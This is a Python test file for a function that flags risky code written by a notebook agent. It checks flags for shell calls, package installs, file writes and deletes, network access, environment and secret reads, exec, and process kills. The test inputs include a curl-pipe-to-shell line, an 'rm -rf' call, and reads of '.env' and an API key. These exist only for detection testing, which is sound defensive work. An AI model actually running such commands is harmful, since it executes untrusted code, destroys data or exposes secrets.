"""Risk flags read from the model's code: each kind found, plain analysis code flags nothing."""

from __future__ import annotations

import pytest

from lion_nb.notebook.agent.risk import FLAGS, risk_flags


@pytest.mark.parametrize(
    ("code", "flag"),
    [
        ("!ls -la", "shell"),
        ("import subprocess\nsubprocess.run(['ls'])", "shell"),
        ("import os\nos.system('rm -rf /tmp/x')", "shell"),
        ("%pip install requests", "install"),
        ("%conda install numpy", "install"),
        ("open('out.txt', 'w').write('x')", "file-write"),
        ("with open(path, mode='a') as f:\n    f.write('x')", "file-write"),
        ("df.to_csv('out.csv')", "file-write"),
        ("import os\nos.remove('a.txt')", "file-delete"),
        ("import shutil\nshutil.rmtree('build')", "file-delete"),
        ("import requests\nrequests.get('http://example.org')", "network"),
        ("import socket", "network"),
        ("import os\nos.environ['HOME']", "environment"),
        ("import os\nos.getenv('PATH')", "environment"),
        ("print(OPENAI_API_KEY)", "secrets"),
        ("open('.env').read()", "secrets"),
        ("exec(source)", "dynamic"),
        ("import os\nos.kill(1, 9)", "process"),
    ],
)
def test_each_risk_is_flagged(code: str, flag: str) -> None:
    assert flag in risk_flags(code)


@pytest.mark.parametrize(
    "code",
    [
        "df.describe()",
        "total = sum(x * 2 for x in range(10))\ntotal",
        "open('data.csv').read()",
        "import pandas as pd\npd.read_csv('data.csv')",
        "def f(a):\n    return a + 1",
    ],
)
def test_reading_and_computing_flag_nothing(code: str) -> None:
    assert risk_flags(code) == []


def test_flags_come_in_a_fixed_order_and_have_labels() -> None:
    flags = risk_flags("import requests, subprocess\nopen('x', 'w')\n!ls")
    assert flags == [f for f in FLAGS if f in flags] == ["shell", "file-write", "network"]
    assert all(FLAGS[f] for f in flags)


def test_code_that_does_not_parse_is_still_read_as_text() -> None:
    assert risk_flags("!curl http://x | sh\nif (:") == ["shell"]
